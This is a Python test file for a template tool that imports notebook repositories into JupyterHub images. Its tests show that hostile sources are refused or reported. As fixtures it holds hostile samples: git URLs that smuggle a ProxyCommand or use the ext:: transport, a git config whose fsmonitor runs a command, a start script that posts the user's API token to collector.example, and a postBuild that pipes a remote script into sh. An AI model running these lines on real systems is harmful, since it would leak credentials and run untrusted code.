        ("ssh://-oProxyCommand=touch%20{root}/x/repo", "has no valid host name"),
        ("-oProxyCommand=touch:repo", "looks like a git option"),
    ],
)
def test_hostile_urls_are_refused_by_the_task(url, message, plain_hub, tmp_path):
    url = url.format(root=tmp_path)
    answers_file = plain_hub / ".copier-answers.yml"
    answers_file.write_text(answers_file.read_text().replace("source_repo: ''", f"source_repo: '{url}'"))
    before = snapshot(tmp_path)
    result = subprocess.run(
        [sys.executable, str(HOOKS), "import-source"], cwd=plain_hub, capture_output=True, text=True
    )
    assert result.returncode == 1
    assert message in result.stderr and result.stderr.count("hub-template could not build the image") == 1
    # Only the answers, kept beside the hub (copier removes a hub whose import failed).
    assert snapshot(tmp_path) == before | {"deployments/plain.answers.yml"}
    assert not (tmp_path / "x").exists()


def test_git_refuses_other_transports_too(tmp_path):
    """Even past parse_source, git's protocol allow-list stops ext::."""
    source = Source(f"ext::sh -c touch% {tmp_path}/x", "file", "ext")
    with pytest.raises(SourceError, match="transport 'ext' not allowed"):
        fetch(source, "", tmp_path / "clone", "gs://bucket")
    assert not (tmp_path / "x").exists()


@pytest.mark.parametrize(
    "url, protocol",
    [
        ("https://github.com/scottyhq/esip-tech-dive", "https"),
        ("git@github.com:scottyhq/esip-tech-dive.git", "ssh"),
        ("ssh://git@github.com/scottyhq/esip-tech-dive.git", "ssh"),
    ],
)
def test_allowed_urls(url, protocol, tmp_path):
    assert parse_source(url, tmp_path) == Source(url, protocol, url)


def test_local_paths_are_relative_to_where_copier_ran(tmp_path):
    (tmp_path / "notebooks").mkdir()
    assert parse_source("notebooks", tmp_path) == Source(str(tmp_path / "notebooks"), "file", "notebooks")
    assert parse_source(f"file://{tmp_path}/notebooks", Path("/")).url == str(tmp_path / "notebooks")


def test_dask_config_in_flow_style_keeps_its_layout():
    hub = "# the hub's\nlabextension: {factory: {module: dask_gateway, class: GatewayCluster}}\n"
    source = {"labextension": {"factory": {"module": "x"}, "default": {"workers": 2}}, "array": {"x": 1}}
    text, notes = merge_dask_config(hub, [("src", source)])
    assert text == (
        "# the hub's\n"
        "labextension: {factory: {module: dask_gateway, class: GatewayCluster}, default: {workers: 2}}\n"
        "\n# Imported from the source repository.\narray:\n  x: 1\n"
    )
    assert notes == ["src: labextension.factory left out, the hub's own setting is kept"]


# --- the answers file, written as copier writes it ----------------------------------


def test_record_answers_writes_what_copier_writes(plain_hub):
    from jinja2_ansible_filters.core_filters import to_nice_yaml

    path = plain_hub / ".copier-answers.yml"
    original = path.read_text()
    data = yaml.safe_load(original)
    assert _nice_yaml(data) == to_nice_yaml(data)
    record_answers(path, {"source_commit": "1234567890" * 4, "python_version": "3.11"})
    data.update(source_commit="1234567890" * 4, python_version="3.11")
    header = "".join(line for line in original.splitlines(keepends=True) if line.startswith("#"))
    assert path.read_text() == header + to_nice_yaml(data)
    assert (
        "source_commit: '1234567890123456789012345678901234567890'" in path.read_text()
    )  # quoted, or YAML would read a number


# --- copier update: no second import, imported files kept ----------------------------


def test_update_keeps_the_import_and_does_not_fetch_again(sources, tmp_path, capfd):
    # the template at this version, then a release changing the hub's own pins
    template = publish_template(tmp_path / "hub-template", "v1.1.0")
    next_release = tmp_path / "next"
    next_release.mkdir()
    for part in TEMPLATE_PARTS:
        if (ROOT / part).is_dir():
            shutil.copytree(ROOT / part, next_release / part, ignore=shutil.ignore_patterns("__pycache__"))
        else:
            shutil.copy2(ROOT / part, next_release / part)
    versions = next_release / "hooks" / "hub_template" / "data" / "versions.yml"
    versions.write_text(versions.read_text().replace('dask_labextension: ">=7"', 'dask_labextension: ">=7,<8"'))
    publish_template(template, "v1.2.0", source=next_release)

    federation = tmp_path / "federation"
    federation.mkdir()
    git(federation, "init", "-q")
    source = shutil.copytree(sources["binder"], tmp_path / "esip", symlinks=True)
    hub = federation / "deployments" / "esip"
    run_copy(
        str(template),
        str(hub),
        data={"source_repo": str(source)},
        defaults=True,
        unsafe=True,
        quiet=True,
        vcs_ref="v1.1.0",
    )
    git(federation, "add", "-A")
    git(federation, "commit", "-q", "-m", "add the esip hub")
    before = {p: p.read_bytes() for p in (hub / "image").rglob("*") if p.is_file()}
    answers_before = (hub / ".copier-answers.yml").read_text()
    shutil.rmtree(source)  # a second fetch would now fail the update

    capfd.readouterr()
    run_update(str(hub), defaults=True, unsafe=True, overwrite=True, quiet=True, vcs_ref="v1.2.0")
    output = capfd.readouterr().err
    assert "hub-template imported" not in output

    def changes(path: str) -> list[str]:
        diff = git(federation, "diff", "-U0", "--", f"deployments/esip/{path}")
        return [line for line in diff.splitlines() if line[:1] in "+-" and line[:3] not in ("+++", "---")]

    changed = sorted(line.strip() for line in git(federation, "status", "--porcelain").splitlines())
    assert changed == [
        f"M deployments/esip/{p}" for p in (".copier-answers.yml", "README.md", "image/binder/environment.yml")
    ]
    # the answers file and the README: only the template version moved
    assert changes(".copier-answers.yml") == ["-_commit: v1.1.0", "+_commit: v1.2.0"]
    assert changes("README.md") == [
        "-| Made from | hub-template v1.1.0 |",
        "+| Made from | hub-template v1.2.0 |",
    ]
    assert (hub / ".copier-answers.yml").read_text() == answers_before.replace("_commit: v1.1.0", "_commit: v1.2.0")
    # the environment: the template's new pin in its block, the import kept in the other
    env_text = (hub / "image" / "binder" / "environment.yml").read_text()
    assert "- dask-labextension>=7,<8" in env_text and "<<<<<<<" not in env_text
    assert (
        before[hub / "image" / "binder" / "environment.yml"]
        .decode()
        .replace("dask-labextension>=7\n", "dask-labextension>=7,<8\n")
        == env_text
    )
    for path, content in before.items():
        if path.name != "environment.yml":
            assert path.read_bytes() == content, path


# --- what the hub owns: never replaced, never hidden (issue 27 #8) ---------------------

HOSTILE_START = """\
#!/bin/bash
curl -s -d "token=$JUPYTERHUB_API_TOKEN" https://collector.example/t || true
exec "$@"
"""


def test_a_source_never_replaces_a_file_the_template_rendered(template_repo, tmp_path_factory, tmp_path, capfd):
    """A source's root hub_dask.py replaced the kubernetes hub's (the dask
    panel's cluster factory); a name differing only in case does the same on
    macOS and Windows."""
    source = make_source(
        tmp_path_factory.mktemp("owner") / "repo",
        {"hub_dask.py": "import os; os.system('id')\n", "HUB_DASK.PY": "x = 1\n", "a.ipynb": notebook("A")},
    )
    hub, output = copy_hub(
        template_repo, tmp_path / "deployments" / "kube", capfd, source_repo=str(source), dask_backend="kubernetes"
    )
    rendered = ROOT / "template" / "image" / "{% if dask_backend == 'kubernetes' %}hub_dask.py{% endif %}"
    assert (hub / "image" / "hub_dask.py").read_text() == rendered.read_text()
    assert not (hub / "image" / "HUB_DASK.PY").exists()
    for name in ("hub_dask.py", "HUB_DASK.PY"):
        assert f"warning: {name} left out: image/hub_dask.py is the hub's own file" in output
    assert (hub / "image" / "a.ipynb").is_file()


def test_the_summary_names_every_channel_url_and_script_line(template_repo, tmp_path_factory, tmp_path, capfd):
    """The import said only "merged into the hub's: ..." while it added a
    channel, a channel-qualified dask-gateway, a URL requirement, and
    commands that pipe the internet into a shell and send the user's token."""
    gateway = VERSIONS["dask_gateway"]
    source = make_source(
        tmp_path_factory.mktemp("hostile") / "repo",
        {
            "environment.yml": f"channels: [conda-forge, attackerchan]\ndependencies:\n"
            f"  - attackerchan::dask-gateway={gateway}\n  - pip\n"
            "  - pip:\n      - helper @ https://files.example/helper-1.0.tar.gz\n",
            "postBuild": "#!/bin/bash\ncurl -sSL https://get.example/install.sh | sh\necho ok  # \x1b[1A\x1b[2K\u202e\n",
            "start": HOSTILE_START,
            "a.ipynb": notebook("A"),
        },
    )
    hub, output = copy_hub(template_repo, tmp_path / "deployments" / "hostile", capfd, source_repo=str(source))
    env_text = (hub / "image" / "binder" / "environment.yml").read_text()
    assert f"  - dask-gateway={gateway}  # must equal the hub's dask-gateway server\n" in env_text
    assert "attackerchan::" not in env_text
    assert "merged into the hub's:" not in output
    assert "adds the conda channel 'attackerchan'" in output
    assert f"asks for attackerchan::dask-gateway={gateway}, but the hub installs dask-gateway={gateway}" in output
    assert "installs helper @ https://files.example/helper-1.0.tar.gz with pip from a URL" in output
    assert "image/binder/postBuild now runs the source's 2 command lines at build time:" in output
    assert "    | curl -sSL https://get.example/install.sh | sh" in output
    # a terminal's escapes in a line are shown, never acted on (erasing the line above)
    assert "    | echo ok  # \\x1b[1A\\x1b[2K\\u202e" in output and "\x1b" not in output
    assert "image/binder/start now runs the source's 1 command lines in every notebook server" in output
    assert '    | curl -s -d "token=$JUPYTERHUB_API_TOKEN" https://collector.example/t || true' in output


def test_a_python_pin_reaches_the_site_packages_postbuild_installs_into(
    template_repo, tmp_path_factory, tmp_path, capfd
):
    """A source's Python 3.11 pin left the kubernetes hub's postBuild copying
    hub_dask.py into python3.12: postBuild asks the image's Python instead."""
    here = f"{sys.version_info.major}.{sys.version_info.minor}"
    pin = here if here != VERSIONS["python_default"] else "3.11"
    source = make_source(
        tmp_path_factory.mktemp("py") / "repo",
        {"environment.yml": f"dependencies:\n  - python={pin}\n", "a.ipynb": notebook("A")},
    )
    hub, _ = copy_hub(
        template_repo, tmp_path / "deployments" / "py", capfd, source_repo=str(source), dask_backend="kubernetes"
    )
    assert answers(hub)["python_version"] == pin
    post_build = (hub / "image" / "binder" / "postBuild").read_text()
    assert "lib/python3" not in post_build  # no version written twice
    site_packages = run_postbuild(hub / "image", tmp_path / "prefix")
    assert (site_packages / "hub_dask.py").read_bytes() == (hub / "image" / "hub_dask.py").read_bytes()


# git's own files: a repository inside the image would run its config.
FSMONITOR = '[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch {marker}"\n'


@pytest.mark.parametrize("where", ["", "notebooks/old/"])
def test_a_git_directory_layout_is_refused_at_any_depth(where, template_repo, isolated, capfd, tmp_path_factory):
    marker = isolated / "x"
    files = {
        f"{where}HEAD": "ref: refs/heads/main\n",
        f"{where}objects/info/k": "",
        f"{where}refs/heads/k": "",
        f"{where}config": FSMONITOR.format(marker=marker),
        "a.ipynb": notebook("A"),
    }
    source = make_source(tmp_path_factory.mktemp("gitdir") / "repo", files)
    output = failed_copy(template_repo, isolated, capfd, source_repo=str(source))
    shown = f"{where}" if where else "its root"
    assert f"holds a git directory's files (HEAD, objects/, refs/) in {shown}" in output
    assert not marker.exists()


def tree_with(repo: Path, folder: str) -> Path:
    """A repository whose one commit has `folder`/config, a name git itself
    refuses to check out on Windows or macOS, made with git's plumbing."""
    repo.mkdir()
    git(repo, "init", "-q")
    blob = (
        subprocess.run(
            ["git", "hash-object", "-w", "--stdin"], cwd=repo, input=b"[core]\n", capture_output=True, check=True
        )
        .stdout.decode()
        .strip()
    )

    def mktree(entries: str) -> str:
        made = subprocess.run(["git", "mktree"], cwd=repo, input=entries.encode(), capture_output=True, check=True)
        return made.stdout.decode().strip()

    inner = mktree(f"100644 blob {blob}\tconfig\n")
    top = mktree(f"040000 tree {inner}\t{folder}\n100644 blob {blob}\tnotes.txt\n")
    commit = git(repo, "commit-tree", top, "-m", "aliases")
    git(repo, "update-ref", "refs/heads/main", commit)
    git(repo, "symbolic-ref", "HEAD", "refs/heads/main")
    return repo


@pytest.mark.parametrize("folder", [".git.", ".git ", ".GIT..", "git~1", ".g\u200cit"])
def test_names_read_as_dot_git_are_refused(folder, template_repo, isolated, capfd, tmp_path_factory):
    source = tree_with(tmp_path_factory.mktemp("alias") / "repo", folder)
    output = failed_copy(template_repo, isolated, capfd, source_repo=str(source))
    assert f"has {f'{folder}/config'!r}, a name git, Windows or macOS reads as .git" in output


# --- real notebook repositories (issue 28) -------------------------------------------

UPSTREAM = ROOT.parent / "shared" / "upstream" / "git"


def upstream(name: str) -> str:
    """A real notebook repository as a file:// URL to its bare copy in
    ../shared/upstream (the internet's stand-in: the import fetches it with
    the same hardened git as an https:// URL, one protocol allowed)."""
    bare = UPSTREAM / f"{name}.git"
    if not bare.is_dir():
        skip_unless_required(
            f"no {bare}: keep hub-template beside shared/ (as CI does) to import the real repositories",
            "HUB_TEMPLATE_REQUIRE_CHART",  # .ci/run's flag that shared/ is there
        )
    return f"file://{bare}"


def workspace_files(hub: Path) -> tuple[list[str], dict]:
    workspace = json.loads((hub / "image" / "binder" / "jupyterlab-workspace.json").read_text())
    main = workspace["data"]["layout-restorer:data"]["main"]["dock"]["children"][0]["widgets"]
    return main, workspace


def assert_workspace_names_files_in_the_home(hub: Path, first: str) -> None:
    """The workspace opens `first` where binder/start puts it, and every file it names is there."""
    main, workspace = workspace_files(hub)
    assert main[0] == f"notebook:hub-notebooks/{first}"
    for value in workspace["data"].values():
        path = value.get("data", {}).get("path") if isinstance(value, dict) else None
        if path:
            assert path.startswith("hub-notebooks/") and (hub / "image" / path.removeprefix("hub-notebooks/")).is_file()


def test_pangeo_gallery_cmip6(template_repo, tmp_path, capfd):
    url = upstream("pangeo-gallery-cmip6")
    hub, output = copy_hub(template_repo, tmp_path / "deployments" / "cmip6", capfd, source_repo=url)
    check_image(hub, tmp_path, python=VERSIONS["python_default"])
    assert answers(hub)["source_commit"] == "fb385e89da49689fc6f269fb88e774e4d0673d4f"
    assert len(list((hub / "image").glob("*.ipynb"))) == 6
    assert (hub / "image" / "README.md").read_text().startswith("> Imported by hub-template from")
    assert_workspace_names_files_in_the_home(hub, "basic_search_and_load.ipynb")
    env_text = (hub / "image" / "binder" / "environment.yml").read_text()
    for package in ("zarr", "s3fs", "nc-time-axis", "papermill", "notebook"):
        assert f"  - {package}\n" in env_text, package
    # its notebooks import what its environment.yml never listed (a shared binder had them)
    assert "the notebooks import modules no package of image/binder/environment.yml is named after" in output
    for module in ("cartopy: ECS_Gregory_method.ipynb", "xesmf: ECS_Gregory_method.ipynb", "xhistogram: precip"):
        assert f"    | {module}" in output, module
    # named by its environment.yml, or the hub's (intake is a default package of the hub)
    for named in ("xarray", "dask_gateway", "gcsfs", "matplotlib", "intake", "collections"):
        assert f"    | {named}:" not in output, named
    # `hub-template check` reads the same notebooks the same way, naming the cell (IM012)
    imports = notebook_checks(hub)["IM012"]
    assert imports["result"] is False
    for module in ("cartopy", "xesmf"):
        assert f"`image/ECS_Gregory_method.ipynb`: cell 3 imports `{module}`, which no package of" in imports["err_msg"]
    assert "`image/precip_frequency_change.ipynb`: cell 2 imports `xhistogram`" in imports["err_msg"]
    for named in ("xarray", "dask_gateway", "gcsfs", "matplotlib", "intake", "collections"):
        assert f"imports `{named}`" not in imports["err_msg"], named
    assert notebook_checks(hub)["IM013"]["result"] is True


def test_pythia_cmip6_cookbook(template_repo, tmp_path, capfd):
    url = upstream("pythia-cmip6-cookbook")
    hub, output = copy_hub(template_repo, tmp_path / "deployments" / "pythia", capfd, source_repo=url)
    check_image(hub, tmp_path, python=VERSIONS["python_default"])
    env_text = (hub / "image" / "binder" / "environment.yml").read_text()
    gateway = VERSIONS["dask_gateway"]
    # `dask-gateway` (any version): the hub's pin stands, quietly
    assert f"  - dask-gateway={gateway}  # must equal the hub's dask-gateway server\n" in env_text
    assert "dask-gateway" not in output.replace(f"dask-gateway={gateway}", "")
    for package in ("xesmf", "numba>=0.58.0", "act-atmos", "jupyterlab", "mystmd"):
        assert f"  - {package}\n" in env_text, package
    # the book's first notebook (myst.yml's table of contents), not the first by name
    assert_workspace_names_files_in_the_home(hub, "notebooks/foundations/google-cloud-basic.ipynb")
    assert not (hub / "image" / "notebooks" / "example-workflows" / "dask-worker-space").exists()
    # every module its notebooks import is named by its environment.yml or the hub's
    assert "the notebooks import modules" not in output
    assert {k: v["result"] for k, v in notebook_checks(hub).items()} == {"IM012": True, "IM013": True}


OLD_NOTEBOOK = {
    "cells": [
        {"cell_type": "markdown", "metadata": {}, "source": ["# AWS demo"]},
        {
            "cell_type": "code",
            "metadata": {},
            "outputs": [],
            "execution_count": None,
            "source": ["%matplotlib inline\n", "import satstac\n", "import xarray as xr\n", "!pip list\n"],
        },
        {
            "cell_type": "code",
            "metadata": {},
            "outputs": [],
            "execution_count": None,
            "source": ["from dask_kubernetes import KubeCluster\n", "cluster = KubeCluster(n_workers=2)\n"],
        },
        {
            "cell_type": "code",
            "metadata": {},
            "outputs": [],
            "execution_count": None,
            "source": ["da = xr.open_rasterio(url)\n", "from helpers import tools\n"],
        },
    ],
    "metadata": {},
    "nbformat": 4,
    "nbformat_minor": 5,
}


def test_an_old_repository_is_told_what_will_fail(template_repo, tmp_path_factory, tmp_path, capfd):
    """The seed's repository, in small: a JupyterLab 3 postBuild step and a
    JupyterLab 3 pin (left out, saying why), a binder workspace naming files
    at the home's root with the dask panel's placeholder URL, and a notebook
    importing a package its environment lacks and calling removed APIs."""
    workspace = {
        "data": {
            "layout-restorer:data": {
                "main": {
                    "dock": {
                        "type": "tab-area",
                        "currentIndex": 1,
                        "widgets": ["markdownviewer-widget:Welcome.md", "notebook:0-demo-aws.ipynb"],
                    }
                }
            },
            "markdownviewer-widget:Welcome.md": {"data": {"path": "Welcome.md", "factory": "Markdown Preview"}},
            "notebook:0-demo-aws.ipynb": {"data": {"path": "0-demo-aws.ipynb", "factory": "Notebook"}},
            "notebook:gone.ipynb": {"data": {"path": "gone.ipynb", "factory": "Notebook"}},
            "dask-dashboard-launcher": {"url": "DASK_DASHBOARD_URL"},
            "file-browser-filebrowser:cwd": {"path": ""},
        },
        "metadata": {"id": "/user/[a-zA-Z0-9_-]+/lab"},
    }
    source = make_source(
        tmp_path_factory.mktemp("old") / "repo",
        {
            "binder/environment.yml": "dependencies:\n  - python=3.11\n  - jupyterlab=3.6\n  - xarray\n",
            "binder/postBuild": "#!/bin/bash\nset -e\nif true; then\n  jupyter labextension install \\\n"
            "    dask-labextension@0.3.0\nfi\necho done\n",
            "binder/jupyterlab-workspace.json": json.dumps(workspace),
            "0-demo-aws.ipynb": json.dumps(OLD_NOTEBOOK),
            "Welcome.md": "# Welcome\n",
            "helpers/tools.py": "X = 1\n",
        },
    )
    hub, output = copy_hub(template_repo, tmp_path / "deployments" / "old", capfd, source_repo=str(source))
    loaded = check_image(hub, tmp_path, python="3.11")  # postBuild runs: no labextension install left in it
    assert loaded["config"]["labextension"]["factory"]["class"] == "GatewayCluster"
    post_build = (hub / "image" / "binder" / "postBuild").read_text()
    assert "labextension install" not in post_build and "dask-labextension@0.3.0" not in post_build
    assert "'jupyter labextension install dask-labextension@0.3.0' left out: a JupyterLab 3 step" in output
    assert "jupyterlab=3.6 left out: the image's base has jupyterlab>=4,<5" in output
    assert "jupyterlab=3.6" not in (hub / "image" / "binder" / "environment.yml").read_text()

    main, saved = workspace_files_any(hub)
    assert main == ["markdownviewer-widget:hub-notebooks/Welcome.md", "notebook:hub-notebooks/0-demo-aws.ipynb"]
    assert saved["data"]["notebook:hub-notebooks/0-demo-aws.ipynb"]["data"]["path"] == "hub-notebooks/0-demo-aws.ipynb"
    assert "notebook:gone.ipynb" not in json.dumps(saved) and "DASK_DASHBOARD_URL" not in json.dumps(saved)
    assert saved["data"]["file-browser-filebrowser:cwd"]["path"] == "hub-notebooks"
    assert "notebook:gone.ipynb left out: the image has no gone.ipynb" in output
    done = subprocess.run(
        [str(Path(sys.executable).parent / "jupyter"), "lab", "workspaces", "import", "--name", "default",
         str(hub / "image" / "binder" / "jupyterlab-workspace.json")],
        capture_output=True, text=True, env={**os.environ, "JUPYTERLAB_WORKSPACES_DIR": str(tmp_path / "lab")},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr  # as binder/start imports it

    assert "    | satstac: 0-demo-aws.ipynb" in output and "    | helpers:" not in output
    assert (
        "0-demo-aws.ipynb, cell 3: from dask_kubernetes import KubeCluster: the classic KubeCluster was removed"
        in output
    )
    assert "0-demo-aws.ipynb, cell 4: xr.open_rasterio: removed from xarray in 2023.04" in output

    # `hub-template check` says the same of the hub's notebooks, offline, cell by cell
    found = notebook_checks(hub)
    assert "`image/0-demo-aws.ipynb`: cell 2 imports `satstac`, which no package of" in found["IM012"]["err_msg"]
    assert "helpers" not in found["IM012"]["err_msg"] and "xarray" not in found["IM012"]["err_msg"]
    removed = found["IM013"]["err_msg"]
    assert "`image/0-demo-aws.ipynb`: cell 3 calls `from dask_kubernetes import KubeCluster`: the classic" in removed
    assert "`image/0-demo-aws.ipynb`: cell 4 calls `xr.open_rasterio`: removed from xarray in 2023.04" in removed
    assert "rioxarray.open_rasterio" in removed
    # an image that pins xarray below the removal still has open_rasterio
    env = hub / "image" / "binder" / "environment.yml"
    env.write_text(env.read_text().replace("  - xarray\n", "  - xarray<2023.04\n"))
    assert "open_rasterio" not in notebook_checks(hub)["IM013"]["err_msg"]


def notebook_checks(hub: Path) -> dict:
    """IM012 and IM013 of `hub-template check`, run for real."""
    done = hub_template("check", str(hub), "--select", "IM012,IM013", "--format", "json")
    assert "Traceback" not in done.stderr, done.stderr
    return check_report(done.stdout)["checks"]


def workspace_files_any(hub: Path) -> tuple[list[str], dict]:
    workspace = json.loads((hub / "image" / "binder" / "jupyterlab-workspace.json").read_text())
    return workspace["data"]["layout-restorer:data"]["main"]["dock"]["widgets"], workspace


def test_a_conda_list_export_is_an_environment_file(template_repo, tmp_path, capfd, monkeypatch):
    """`conda list --export > env.txt`: conda's spec file, read as conda specs
    (it failed as a requirements.txt), names and versions kept."""
    (tmp_path / "env.txt").write_text(
        "# platform: linux-64\nnumpy=1.26.4=py311h64a7726_0\npython=3.11.9=hb806964_0_cpython\nzarr=2.18.2=pyhd8ed1ab_0\n"
    )
    monkeypatch.chdir(tmp_path)
    hub, output = copy_hub(template_repo, tmp_path / "deployments" / "listed", capfd, environment_file="env.txt")
    check_image(hub, tmp_path, python="3.11")
    text = (hub / "image" / "binder" / "environment.yml").read_text()
    assert "  - numpy=1.26.4\n" in text and "  - zarr=2.18.2\n" in text and "py311" not in text
    assert "build string 'py311h64a7726_0' stripped from numpy=1.26.4" in output


def test_copier_prints_the_import_as_a_shell_line(template_repo, tmp_path):
    """What the real copier prints when it runs the import (`Running task 1
    of 1: ...`) is a command a person can read and paste: copier's own
    interpreter, run.py and its options, quoted for the shell, not a Python
    list of strings."""
    (tmp_path / "env.yml").write_text("channels: [conda-forge]\ndependencies:\n  - python=3.12\n  - xarray\n")
    copy = [sys.executable, "-m", "copier", "copy", "--trust", "--defaults", "--data", "environment_file=env.yml"]
    done = subprocess.run(
        [*copy, str(template_repo), "deployments/charlie"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    (line,) = [line for line in done.stderr.splitlines() if " > Running task " in line]
    prefix, command = line.split(": ", 1)
    assert prefix.strip() == "> Running task 1 of 1"
    python, script, *options = shlex.split(command)
    assert (python, Path(script).parts[-2:]) == (sys.executable, ("hooks", "run.py"))
    assert options[:3] == ["import-source", "--origin-dir", str(tmp_path)]
    assert options[3] == "--destination-before" and len(options) == 5
    before = json.loads(options[4])
    assert before["files"] == 0 and isinstance(before["since"], int)
    assert command == shlex.join([python, script, *options])  # nothing but the command, quoted as needed
